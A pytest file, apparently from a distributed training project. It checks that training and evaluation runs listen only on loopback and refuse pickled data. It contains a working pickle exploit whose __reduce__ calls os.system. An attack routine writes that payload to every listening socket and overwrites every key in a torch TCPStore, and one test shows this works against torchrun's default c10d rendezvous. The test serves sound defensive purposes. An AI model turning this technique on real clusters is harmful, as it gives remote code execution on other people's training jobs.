"""The sockets of real runs, as the kernel reports them, and an attack on them with pickles."""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import socket
import subprocess
import sys
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import torch.distributed as dist
from sockets import Listener, Watch, listeners
from whole_runs import end, from_model, kill_tree, lines, start, train, when

pytestmark = [pytest.mark.dist, pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs /proc/net/tcp")]

STORE_TIMEOUT = datetime.timedelta(seconds=5)


class Exploit:
    """A process that unpickles it creates the file `mark`."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.mark}",)


def attack(targets: Iterable[Listener], mark: Path) -> int:
    """Writes the pickle to every target, raw and as a client of torch's store; returns the number of stores."""
    payload = pickle.dumps(Exploit(mark))
    with ThreadPoolExecutor(64) as threads:
        return sum(threads.map(lambda one: _attack(one, payload), targets))


def _attack(target: Listener, payload: bytes) -> bool:
    for text in (payload, base64.b64encode(payload)):
        try:
            with socket.create_connection((target.address, target.port), timeout=1) as connection:
                connection.sendall(text)
        except OSError:
            pass
    try:
        store = dist.TCPStore(
            target.address, target.port, is_master=False, timeout=STORE_TIMEOUT, wait_for_workers=False
        )
        for key in store.list_keys():  # torchrun's c10d rendezvous stores its state as base64 pickles
            store.set(key, base64.b64encode(payload).decode())
        return True
    except (RuntimeError, ValueError):  # it is not a store
        return False


def test_attack_works_on_torchruns_default_rendezvous(tmp_path: Path) -> None:
    """Otherwise the next test could not fail."""
    (tmp_path / "rank.py").write_text("import time; time.sleep(30)")
    command = [sys.executable, "-m", "torch.distributed.run", "--rdzv-backend=c10d", "--rdzv-endpoint=localhost:0"]
    command += ["--local-addr=127.0.0.1", str(tmp_path / "rank.py")]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    mark = tmp_path / "mark"
    try:
        with Watch(process.pid) as watch:
            when(process, watch.beyond_loopback)
            when(process, lambda: mark.exists() or (attack(listeners(process.pid), mark) > 0 and mark.exists()))
    finally:
        kill_tree(process)


def test_run_listens_only_on_loopback_and_unpickles_nothing(finished_run: Path, tmp_path: Path) -> None:
    folder, mark = tmp_path / "run", tmp_path / "mark"
    running = start(*train(folder, *from_model(finished_run), "launch.ranks=2", "steps=8"))
    with Watch(running.pid) as watch:
        when(running, lambda: lines(folder) >= 1)
        stores = 0
        while stores == 0 and running.poll() is None:  # on a busy machine the first attempt may time out
            stores = attack(listeners(running.pid), mark)
        code, _, err = end(running)
    assert code == 0, err
    assert watch.samples > 20 and len(watch.found) > 2
    assert watch.beyond_loopback() == []
    assert stores == 1, "the ranks' store must have been attacked"
    assert not mark.exists()


def test_evaluation_listens_only_on_loopback(finished_run: Path, tmp_path: Path) -> None:
    """Evaluates a checkpoint, which is first converted with a process group of one rank, on two ranks."""
    words = [str(finished_run / "checkpoints"), "--problems", "4", "--rounds", "2", "launch.ranks=2"]
    words += ["--out", str(tmp_path)]
    running = start("eval", *words)
    with Watch(running.pid) as watch:
        code, _, err = end(running)
    assert code == 0, err
    assert watch.samples > 20
    assert watch.beyond_loopback() == []
